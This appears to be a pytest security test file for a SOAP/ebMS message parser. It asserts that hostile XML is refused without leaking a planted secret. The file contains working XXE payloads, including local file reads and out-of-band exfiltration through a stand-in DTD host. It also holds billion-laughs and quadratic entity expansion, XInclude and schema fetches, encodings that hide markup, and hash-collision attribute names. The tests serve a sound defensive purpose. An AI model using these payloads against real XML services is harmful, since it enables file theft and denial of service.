"""XML that reads files, calls servers, expands without end, or is no XML at all."""

import base64
import json
from collections.abc import Iterator
from itertools import islice, product
from pathlib import Path

import pytest

from postroad.node.evidence.inspecting import Tools, inspect_source
from postroad.security.algorithms import ECDSA_SHA256
from postroad.security.sign import Signing
from postroad.wire.content import read_all
from postroad.wire.limits import Limits
from tests.attack.messages import (
    ACTION,
    BODY,
    NOW,
    Package,
    assert_holds,
    assert_refused,
    buyer,
    ca,
    look,
    make,
    payload,
    soap,
)
from tests.changing import replace

SECRET = "the-secret-of-the-file"


@pytest.fixture
def secret(tmp_path: Path) -> str:
    """The URL of a file that must not be read."""
    path = tmp_path / "secret.txt"
    path.write_text(SECRET)
    return path.as_uri()


def _doctypes(url: str) -> dict[str, tuple[str, str, str]]:
    """Of each vector: the document type declaration, and what refers to it from text and value."""
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 30))
    percent = "".join(
        f"<!ENTITY &#37; p{n} '{f'&#37;p{n - 1};' * 10}'>" for n in range(1, 10)
    ).replace("&#37; ", "% ")
    vectors: dict[str, tuple[str, str, str]] = {}
    for kind in ("SYSTEM", "PUBLIC"):
        at = f'SYSTEM "{url}"' if kind == "SYSTEM" else f'PUBLIC "-//x//y//EN" "{url}"'
        far = at.replace(url, "http://127.0.0.1:9/evil.dtd")
        inner = far.replace('"', "'")
        vectors |= {
            f"external DTD {kind}": (f"<!DOCTYPE r {at}>", "", ""),
            f"external DTD far {kind}": (f"<!DOCTYPE r {far}>", "", ""),
            f"XXE {kind}": (f"<!DOCTYPE r [<!ENTITY x {at}>]>", "&x;", ""),
            f"XXE far {kind}": (f"<!DOCTYPE r [<!ENTITY x {far}>]>", "&x;", ""),
            f"XXE in an attribute {kind}": (f"<!DOCTYPE r [<!ENTITY x {at}>]>", "", "&x;"),
            f"parameter entity {kind}": (f"<!DOCTYPE r [<!ENTITY % x {at}> %x;]>", "", ""),
            f"out of band {kind}": (
                f"<!DOCTYPE r [<!ENTITY % f {at}><!ENTITY % d {far}> %d;]>",
                "&send;",
                "",
            ),
            f"out of band by parameter {kind}": (
                f'<!DOCTYPE r [<!ENTITY % f {at}><!ENTITY % e "<!ENTITY &#37; s {inner}>">%e;%s;]>',
                "",
                "",
            ),
            f"in an error message {kind}": (
                f'<!DOCTYPE r [<!ENTITY % f {at}><!ENTITY % e "<!ENTITY &#37; s SYSTEM '
                "'file:///nowhere/%f;'>\">%e;%s;]>",
                "",
                "",
            ),
            f"around the restriction in content {kind}": (
                f'<!DOCTYPE r [<!ENTITY a "<b>&x;</b>"><!ENTITY x {at}>]>',
                "&a;",
                "",
            ),
            f"around the restriction in an attribute {kind}": (
                f'<!DOCTYPE r [<!ENTITY a "&#38;x;"><!ENTITY x {at}><!ATTLIST r a CDATA "&a;">]>',
                "",
                "&a;",
            ),
            f"schema entity {kind}": (
                f"<!DOCTYPE r [<!ENTITY x {at}><!ATTLIST r xmlns:xsi CDATA #FIXED 'urn:x'>]>",
                "",
                "&x;",
            ),
        }
    vectors |= {
        "billion laughs": (f'<!DOCTYPE r [<!ENTITY l0 "lol">{laughs}]>', "&l29;", ""),
        "billion laughs in an attribute": (
            f'<!DOCTYPE r [<!ENTITY l0 "lol">{laughs}]>',
            "",
            "&l29;",
        ),
        "billion laughs by parameters": (
            f"<!DOCTYPE r [<!ENTITY % p0 'lol'>{percent}%p9;]>",
            "",
            "",
        ),
        "quadratic blowup": (
            f'<!DOCTYPE r [<!ENTITY q "{"q" * 50_000}">]>',
            "&q;" * 20_000,
            "",
        ),
        "recursive entities": (
            '<!DOCTYPE r [<!ENTITY a "&b;"><!ENTITY b "&a;">]>',
            "&a;",
            "&b;",
        ),
        "internal subset": ("<!DOCTYPE r [<!ELEMENT r ANY>]>", "", ""),
        "nothing at all": ("<!DOCTYPE r>", "", ""),
        "an attribute that is an id by declaration": (
            "<!DOCTYPE r [<!ATTLIST r evil ID #IMPLIED>]>",
            "",
            "_messaging",
        ),
        "in lower case": ("<!doctype r>", "", ""),
        "behind a comment": ("<!-- x --><?y z?>\n<!DOCTYPE r []>", "", ""),
    }
    return vectors


_DTD_NAMES = sorted(_doctypes("file:///x"))
_ENCODINGS = ("utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-16-be")


def _with_doctype(message: Package, vector: tuple[str, str, str], encoding: str) -> bytes:
    doctype, in_text, in_value = vector
    text = message.envelope.decode().partition("?>\n")[2]
    text = text.replace("<o:Pay>100", f"<o:Pay a='{in_value}'>{in_text}", 1)
    name = encoding.removesuffix("-sig").removesuffix("-le").removesuffix("-be").upper()
    return f'<?xml version="1.0" encoding="{name}"?>\n{doctype}{text}'.encode(encoding)


@pytest.mark.parametrize("name", _DTD_NAMES)
def test_a_document_type_declaration_is_refused_in_every_encoding(name: str, secret: str) -> None:
    vector = _doctypes(secret)[name]
    for encoding in _ENCODINGS:
        found = look(soap(_with_doctype(make((), body=BODY), vector, encoding)))
        assert_refused(found, "EBMS:0009")
        assert found["kind"] == "unreadable"
        assert SECRET not in json.dumps(found)


def _utf7(text: str) -> bytes:
    """ASCII outside of markup; the markup itself is hidden from whoever reads bytes."""
    return "".join(
        c if c.isalnum() or c in " \n:/.-'(),?" else "+" + _utf7_unit(c) + "-" for c in text
    ).encode()


def _utf7_unit(c: str) -> str:
    return base64.b64encode(c.encode("utf-16-be")).decode().rstrip("=")


@pytest.mark.parametrize("name", ["XXE SYSTEM", "billion laughs", "external DTD SYSTEM"])
@pytest.mark.parametrize(
    "encoding", ["UTF-7", "IBM037", "EBCDIC-US", "UTF-32", "ISO-2022-JP", "SHIFT_JIS", "x-user"]
)
def test_an_encoding_that_hides_markup_is_refused(name: str, encoding: str, secret: str) -> None:
    doctype, _, _ = _doctypes(secret)[name]
    text = make((), body=BODY).envelope.decode().partition("?>\n")[2]
    head = f'<?xml version="1.0" encoding="{encoding}"?>'
    if encoding == "UTF-7":
        data = head.encode() + _utf7(doctype + text)
    elif encoding in ("IBM037", "EBCDIC-US"):
        data = (head + doctype + text).encode("cp037")
    elif encoding == "UTF-32":
        data = (head + doctype + text).encode("utf-32")
    else:
        data = (head + doctype + text).encode()
    found = look(soap(data))
    assert_refused(found, "EBMS:0009", "EBMS:0007")
    assert SECRET not in json.dumps(found)


@pytest.mark.parametrize(
    "inside",
    [
        '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{url}" parse="text"/>',
        '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="http://127.0.0.1:9/x"/>',
        '<r xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
        'xsi:noNamespaceSchemaLocation="http://127.0.0.1:9/x.xsd"/>',
        '<r xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
        'xsi:schemaLocation="urn:x {url} urn:y http://127.0.0.1:9/x.xsd"/>',
        '<xop:Include xmlns:xop="http://www.w3.org/2004/08/xop/include" href="{url}"/>',
        '<xop:Include xmlns:xop="http://www.w3.org/2004/08/xop/include" href="http://127.0.0.1:9"/>',
    ],
)
def test_nothing_that_a_document_points_at_is_read(inside: str, secret: str) -> None:
    """Such markup is content like any other: it may stand there and does nothing."""
    message = make((), body=inside.replace("{url}", secret))
    found = inspect_source(message.wire(), Tools(trust=(ca().certificate,), at=NOW))
    assert found.holds, found.problems
    assert found.envelope is not None
    assert found.envelope.body[0].text is None
    assert SECRET not in repr(found.problems)


# The same on an attachment that must be canonicalised to check its digest

_ORDER = b'<r a="1">the-signed-text</r>'


def _evil_attachments(url: str) -> Iterator[tuple[str, bytes]]:
    yield "entity", b'<!DOCTYPE r [<!ENTITY t "the-signed-text">]><r a="1">&t;</r>'
    yield "default attribute", b'<!DOCTYPE r [<!ATTLIST r a CDATA "1">]><r>the-signed-text</r>'
    yield "empty doctype", b'<!DOCTYPE r><r a="1">the-signed-text</r>'
    for name in _DTD_NAMES:
        doctype, in_text, in_value = _doctypes(url)[name]
        yield name, f'{doctype}<r a="{in_value or 1}">{in_text}the-signed-text</r>'.encode()
    utf7 = b'<?xml version="1.0" encoding="UTF-7"?>'
    yield "UTF-7", utf7 + _utf7('<!DOCTYPE r [<!ENTITY t "the-signed-text">]><r a="1">&t;</r>')
    yield "UTF-16", '<!DOCTYPE r [<!ENTITY t "x">]><r a="1">&t;</r>'.encode("utf-16")
    yield "EBCDIC", '<!DOCTYPE r><r a="1">the-signed-text</r>'.encode("cp037")
    yield "no XML", b"the-signed-text"
    yield "two roots", _ORDER * 2
    yield "cut", _ORDER[:-3]
    yield "deep", b"<r>" * 300 + b"</r>" * 300
    yield "null", b"<r>\0</r>"
    yield "not UTF-8", b"<r>\xff\xfe\xfd</r>"


def test_an_xml_attachment_with_a_declaration_never_passes_for_the_signed_one(
    secret: str,
) -> None:
    """Expanded, some of these would be the very document that was signed."""
    message = make([payload("one", _ORDER, "application/xml")])
    assert_holds(look(message))
    for name, content in _evil_attachments(secret):
        [part] = message.parts
        found = look(message.with_parts(replace(part, content=content)))
        assert_refused(found, "EBMS:0101")
        assert SECRET not in json.dumps(found), name


def test_an_attachment_that_was_signed_as_it_is_stays_as_it_is(secret: str) -> None:
    """A partner may sign any bytes: they are handed on, and nobody parses or expands them."""
    raw = Signing(buyer(), ECDSA_SHA256, raw_attachments=True)
    tools = Tools(trust=(ca().certificate,), at=NOW)
    for name, content in islice(_evil_attachments(secret), 0, None, 3):
        message = make([payload("one", content, "application/xml")], signing=raw)
        found = inspect_source(message.wire(), tools)
        for one in found.payloads[0]:
            assert one.content is not None
            assert read_all(one.content, 1 << 24) == content, name


# Shapes and sizes


def _in_header(xml: str) -> bytes:
    message = make((), unsigned=True, body=BODY)
    return soap(message.replaced("</S12:Header>", f"{xml}</S12:Header>").envelope)


def _many(count: int, written: str) -> str:
    """That many pieces, each with its number in the place of `#`."""
    return " ".join(written.replace("#", str(number)) for number in range(count))


def _wrapped(xml: str, attributes: str = "") -> str:
    return f"<x:a xmlns:x='urn:x' {attributes}>{xml}</x:a>"


def _shapes() -> dict[str, str]:
    nested = "".join(
        "<x:a xmlns:x='urn:x' " + _many(20, f'xmlns:a{level}_#="u:"') + ">" for level in range(50)
    )
    name = "a" * 100_000
    return {
        "200 levels": _wrapped("<x:a>" * 200 + "</x:a>" * 200),
        "5,000 levels": _wrapped("<x:a>" * 5000 + "</x:a>" * 5000),
        "10,000 attributes": _wrapped("", _many(10_000, 'a#=""')),
        "25,000 attributes": _wrapped("", _many(25_000, 'a#=""')),
        "25,000 namespaces": _wrapped("", _many(25_000, 'xmlns:a#="u:"')),
        "1,000 namespaces, one below the other": nested + "</x:a>" * 50,
        "a long element name": _wrapped(f"<x:{name}/>"),
        "a long attribute name": _wrapped("", f"{name}='1'"),
        "a long prefix": f"<{name}:a xmlns:{name}='urn:x'/>",
        "60,000 elements": _wrapped("<x:b/>" * 60_000),
        "60,000 comments": _wrapped("<!---->" * 60_000),
        "a processing instruction": _wrapped("<?php evil() ?>"),
        "60,000 instructions": _wrapped("<?a?>" * 60_000),
        "a null byte": _wrapped("\0"),
        "a null character": _wrapped("&#0;"),
        "a surrogate": _wrapped("&#xD800;"),
        "an undefined entity": _wrapped("&evil;"),
        "an undefined prefix": "<y:a/>",
        "a header in no namespace": "<a/>",
        "text in the Header": "text",
        "an unclosed element": "<x:a xmlns:x='urn:x'>",
        "a CDATA section without end": "<![CDATA[",
        "a comment without end": "<!-- ",
        "4 MiB of text": _wrapped("x" * (4 << 20)),
    }


_SHAPE_NAMES = sorted(_shapes())


@pytest.mark.parametrize("name", _SHAPE_NAMES)
def test_an_envelope_of_a_hostile_shape_is_refused(name: str) -> None:
    found = look(_in_header(_shapes()[name]))
    assert_refused(found, "EBMS:0009")
    assert found["kind"] == "unreadable"
    assert len(json.dumps(found)) < 20_000


def _colliding(pairs: tuple[str, str], length: int, count: int) -> list[str]:
    return ["".join(letters) for letters in islice(product(pairs, repeat=length), count)]


@pytest.mark.parametrize(
    ("family", "pairs"),
    [("DJBX31A", ("Aa", "BB")), ("DJBX33A", ("Ez", "FY")), ("33X", ("0a", "1B"))],
)
def test_names_that_collide_in_weak_hashes_are_refused_by_number(
    family: str, pairs: tuple[str, str]
) -> None:
    names = _colliding(pairs, 12, 4000)
    assert len(set(names)) == 4000, family
    written = " ".join(f'n{name}=""' for name in names)
    assert_refused(look(_in_header(f"<x:a xmlns:x='urn:x' {written}/>")), "EBMS:0009")


def test_the_declared_size_of_an_array_is_not_believed() -> None:
    array = (
        '<e:Array xmlns:e="http://schemas.xmlsoap.org/soap/encoding/" '
        'e:arrayType="xsd:string[1000000000]" e:offset="[999999999]"/>'
    )
    assert_holds(look(make((), body=array)))


@pytest.mark.parametrize(
    "data",
    [
        b"",
        b" \r\n ",
        b"\0" * 1000,
        b"\xff" * 1000,
        b"not xml",
        b"<",
        b"<<<<<<",
        b"<?xml",
        b"<?xml version='1.0'?>",
        b"<!---->",
        b"<a/>",
        b"<a/><b/>",
        b"<Envelope/>",
        b'<e:Envelope xmlns:e="urn:other"/>',
        b'{"json": true}',
        b"PK\x03\x04",
        b"%PDF-1.7",
        b"\x1f\x8b\x08\x00",
        b"\xef\xbb\xbf",
        b"\xff\xfe",
        b"\xfe\xff\x00<",
        b"GET / HTTP/1.1\r\n\r\n",
        b"POST / HTTP/1.1\r\nContent-Type: text/xml\r\n\r\n",
        b"HTTP/1.1 200 OK\r\n\r\n<html>",
    ],
)
def test_what_is_no_message_is_refused_with_a_sentence(data: bytes) -> None:
    for wire in (data, soap(data)):
        found = look(wire)
        assert_refused(found, "EBMS:0009", "EBMS:0007")
        assert found["kind"] == "unreadable"


@pytest.mark.parametrize(
    "bad", [b"\xff", b"\xc0\x80", b"\xed\xa0\x80", b"\xf5\x80\x80\x80", b"\xc3"]
)
def test_bytes_that_are_not_utf_8_are_refused(bad: bytes) -> None:
    message = make((), unsigned=True).replaced(ACTION.encode(), b"New" + bad + b"Order")
    assert_refused(look(soap(message.envelope)), "EBMS:0009")


@pytest.mark.parametrize(
    "envelope",
    [
        '<e:Envelope xmlns:e="{s}"/>',
        '<e:Envelope xmlns:e="{s}"><e:Body/><e:Body/></e:Envelope>',
        '<e:Envelope xmlns:e="{s}"><e:Body/><e:Header/></e:Envelope>',
        '<e:Envelope xmlns:e="{s}"><e:Header/><e:Header/><e:Body/></e:Envelope>',
        '<e:Envelope xmlns:e="{s}"><e:Header/><x/><e:Body/></e:Envelope>',
        '<e:Envelope xmlns:e="{s}"><e:Header/><e:Body/><x/></e:Envelope>',
        '<e:Envelope xmlns:e="{s}">text<e:Body/></e:Envelope>',
        '<e:Envelope xmlns:e="{s}"><e:Envelope><e:Body/></e:Envelope></e:Envelope>',
        '<?pi?><e:Envelope xmlns:e="{s}"><e:Body/></e:Envelope>',
        '<e:Envelope xmlns:e="{s}"><e:Header><x:x xmlns:x="urn:x" e:mustUnderstand="maybe"/>'
        "</e:Header><e:Body/></e:Envelope>",
    ],
)
def test_an_envelope_that_breaks_the_rules_of_soap_is_refused(envelope: str) -> None:
    written = envelope.replace("{s}", "http://www.w3.org/2003/05/soap-envelope")
    assert_refused(look(soap(written.encode())), "EBMS:0009")


def test_two_messaging_headers_are_refused() -> None:
    message = make((), unsigned=True)
    start = message.envelope.index(b"<eb:Messaging")
    stop = message.envelope.index(b"</S12:Header>")
    header = message.envelope[start:stop]
    for other in (header, header.replace(b"_messaging", b"_other")):
        twice = message.envelope[:stop] + other + message.envelope[stop:]
        assert_refused(look(soap(twice)), "EBMS:0009")


def test_limits_are_those_that_were_asked_for() -> None:
    message = make((), body=BODY)
    assert_holds(look(message))
    for tight in (
        Limits(envelope_bytes=1000),
        Limits(xml_depth=5),
        Limits(xml_elements=20),
        Limits(xml_attributes=1),
    ):
        assert_refused(look(message, limits=tight), "EBMS:0009")
